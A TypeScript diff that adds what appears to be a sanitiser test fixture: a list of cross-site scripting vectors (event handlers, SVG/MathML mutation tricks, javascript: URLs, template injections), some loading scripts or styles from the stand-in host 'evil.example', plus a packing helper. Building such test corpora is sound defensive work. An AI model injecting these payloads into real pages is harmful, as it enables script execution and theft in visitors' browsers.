@@ -1,0 +1,87 @@
+/**
+ * Texts that would run something, were they read as anything but text, or as HTML without a sanitiser: script elements, event handlers, SVG and MathML,
+ * addresses, documents in documents, mutations between two readings, templates, and what leaves the attribute or element around it. Each sets `ran`.
+ */
+export const vectors: readonly string[] = [
+  '<script>ran=1</script>',
+  '<ScRiPt >ran=1</sCrIpT >',
+  '<scr<script>ipt>ran=1</scr</script>ipt>',
+  '<script src="data:text/javascript,ran=1"></script>',
+  '<script src=//evil.example/x.js></script>',
+  '<img src=x onerror="ran=1">',
+  '<img src=x onerror=ran=1 //',
+  '<IMG """><script>ran=1</script>">',
+  '<img src="x` `<script>ran=1</script>"` `>',
+  '<image src=x onerror=ran=1>',
+  '<body onload=ran=1>',
+  '<input autofocus onfocus=ran=1>',
+  '<select autofocus onfocus=ran=1>',
+  '<button onclick=ran=1 autofocus>press</button>',
+  '<details open ontoggle=ran=1><summary>x</summary></details>',
+  '<p onmouseover="ran=1" onpointerenter=ran=1>hover</p>',
+  '<p style="animation:x" onanimationstart=ran=1>x</p>',
+  '<video><source onerror=ran=1></video>',
+  '<audio src=x onerror=ran=1>',
+  '<marquee onstart=ran=1>x</marquee>',
+  '<svg onload=ran=1>',
+  '<svg/onload=ran=1//',
+  '<svg><script>ran=1</script></svg>',
+  '<svg><script>ran&#61;1</script>',
+  '<svg><animate onbegin=ran=1 attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:ran=1"><text y=20>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1>#x"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>top.ran=1</script>"></foreignObject></svg>',
+  '<math><a xlink:href="javascript:ran=1">x</a></math>',
+  '<math href="javascript:ran=1">x</math>',
+  '<math><mtext></table><mglyph><style><img src=x onerror=ran=1>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran=1&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=ran=1>">',
+  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran=1>',
+  '<template><script>ran=1</script></template>',
+  '<xmp><p title="</xmp><img src=x onerror=ran=1>">',
+  '<listing>&lt;img src=x onerror=ran=1&gt;</listing>',
+  '<a href="javascript:ran=1">press</a>',
+  '<a href="JaVaScRiPt:ran=1">press</a>',
+  '<a href="jav&#x09;ascript:ran=1">press</a>',
+  '<a href=" &#14; javascript:ran=1">press</a>',
+  '<a href="data:text/html,<script>opener.ran=1</script>">press</a>',
+  '<a href="vbscript:ran=1">press</a>',
+  '<a href="//evil.example" ping="//evil.example/ping">press</a>',
+  '<iframe src="javascript:parent.ran=1"></iframe>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<object data="javascript:ran=1"></object>',
+  '<embed src="data:text/html,<script>parent.ran=1</script>">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:ran=1">',
+  '<link rel=stylesheet href="//evil.example/x.css">',
+  '<style>@import "//evil.example/x.css"</style>',
+  '<p style="background:url(//evil.example/x)">x</p>',
+  '"><img src=x onerror=ran=1>',
+  "' onmouseover='ran=1",
+  '</textarea><script>ran=1</script>',
+  '</title><script>ran=1</script>',
+  '--><script>ran=1</script>',
+  ']]><script>ran=1</script>',
+  '&lt;img src=x onerror=ran=1&gt;',
+  '\\u003cimg src=x onerror=ran=1\\u003e',
+  '%3Cimg src=x onerror=ran=1%3E',
+  'javascript:ran=1',
+  'data:text/html,<script>ran=1</script>',
+  '{{constructor.constructor("ran=1")()}}',
+  '${ran=1}',
+  '#{ran=1}',
+  '<%= ran=1 %>',
+  '$t(x, {"ran": 1})',
+];
+
+/** The texts, as many as fit into one of at most `length` characters. */
+export function packed(texts: readonly string[], length: number): string[] {
+  const packs: string[] = [];
+  for (const text of texts.filter((each) => each.length <= length)) {
+    const last = packs.at(-1);
+    if (last !== undefined && last.length + text.length + 1 <= length) packs[packs.length - 1] = `${last} ${text}`;
+    else packs.push(text);
+  }
+  return packs;
+}
